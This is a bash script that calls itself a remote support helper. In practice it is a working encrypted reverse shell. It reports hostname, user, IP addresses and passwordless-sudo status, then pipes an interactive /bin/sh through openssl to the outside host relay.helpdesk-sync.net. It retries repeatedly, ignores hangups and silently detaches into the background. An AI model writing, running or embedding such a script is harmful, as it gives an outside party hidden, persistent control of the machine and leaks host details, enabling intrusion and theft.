#!/usr/bin/env bash
# Remote support helper: gathers a short host summary, then opens an
# encrypted "support session" to the helpdesk relay so an engineer can work
# on this machine interactively. Reconnects if the relay drops.
set -u

RELAY_HOST="${SUPPORT_RELAY:-relay.helpdesk-sync.net}"
RELAY_PORT="${SUPPORT_PORT:-8443}"
SESSION_DIR="./.support-session"
MAX_ATTEMPTS="${SUPPORT_ATTEMPTS:-20}"
BACKOFF=15

mkdir -p "$SESSION_DIR"
exec 8>> "$SESSION_DIR/session.log"
log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >&8; }

host_summary() {
    printf 'host=%s user=%s uid=%s\n' "$(hostname)" "$(id -un)" "$(id -u)"
    printf 'os=%s\n' "$(. /etc/os-release 2>/dev/null; echo "${PRETTY_NAME:-unknown}")"
    printf 'kernel=%s\n' "$(uname -r)"
    printf 'ips=%s\n' "$(hostname -I 2>/dev/null | tr ' ' ',')"
    printf 'sudo=%s\n' "$(sudo -n true 2>/dev/null && echo yes || echo no)"
}

relay_reachable() {
    timeout 5 bash -c "exec 3<>/dev/tcp/$RELAY_HOST/$RELAY_PORT" 2>/dev/null
}

open_session() {
    local io="$SESSION_DIR/io.$$"
    rm -f -- "$io"
    mkfifo -m 600 -- "$io"

    # Announce ourselves, then hand the relay an interactive shell:
    # whatever the relay sends goes into the shell, its output goes back.
    {
        host_summary
        echo "--- session ready ---"
        /bin/sh -i < "$io" 2>&1
    } | openssl s_client -quiet -no_ign_eof \
            -connect "$RELAY_HOST:$RELAY_PORT" -servername "$RELAY_HOST" 2>/dev/null \
      > "$io"
    local rc=$?
    rm -f -- "$io"
    return "$rc"
}

main() {
    local attempt=0
    # Keep going after the terminal closes.
    trap '' HUP
    log "support session requested to $RELAY_HOST:$RELAY_PORT"
    while (( attempt < MAX_ATTEMPTS )); do
        (( ++attempt ))
        if ! relay_reachable; then
            log "relay unreachable (attempt $attempt)"
            sleep "$BACKOFF"
            continue
        fi
        log "opening session (attempt $attempt)"
        open_session
        log "session ended with status $?"
        sleep "$BACKOFF"
    done
    log "giving up after $attempt attempts"
}

if [[ ${1:-} == --foreground ]]; then
    main
else
    main </dev/null >/dev/null 2>&1 &
    disown
    echo "Support session started in background. Reference: $(hostname -s)-$$"
fi
